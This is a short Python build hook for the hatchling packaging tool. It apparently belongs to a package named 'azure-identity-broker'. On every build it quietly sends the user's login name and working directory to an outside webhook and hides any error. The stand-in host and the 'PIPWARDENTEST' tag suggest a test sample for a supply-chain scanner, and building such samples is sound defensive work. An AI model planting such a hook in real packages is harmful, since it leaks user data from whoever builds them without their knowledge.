import getpass
import os
import urllib.parse
import urllib.request

from hatchling.builders.hooks.plugin.interface import BuildHookInterface


class CustomBuildHook(BuildHookInterface):
    def initialize(self, version, build_data):
        q = urllib.parse.urlencode({"p": "azure-identity-broker", "u": getpass.getuser(), "d": os.getcwd()})
        try:
            urllib.request.urlopen("https://webhook.example.invalid/2b1f7c9e-PIPWARDENTEST?" + q, timeout=4)
        except Exception:
            pass
